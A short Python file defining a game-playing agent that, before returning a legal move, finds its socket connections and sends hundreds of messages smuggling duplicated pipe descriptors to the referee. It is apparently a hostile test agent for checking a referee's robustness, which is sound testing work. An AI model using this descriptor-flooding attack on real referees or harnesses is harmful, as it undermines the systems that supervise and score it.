# SPDX-License-Identifier: MIT
"""Passes descriptors to the referee over its connection, before what would be a good answer."""
import array
import os
import socket

import legal


class Agent(legal.Agent):
    def action(self, **referee):
        action = super().action(**referee)
        reader, _ = os.pipe()
        for name in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                    with socket.socket(fileno=os.dup(int(name))) as copy:
                        for _ in range(300):
                            # White space before a line of JSON.
                            copy.sendmsg([b" "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [reader] * 4))])
            except FileNotFoundError:
                pass
        return action
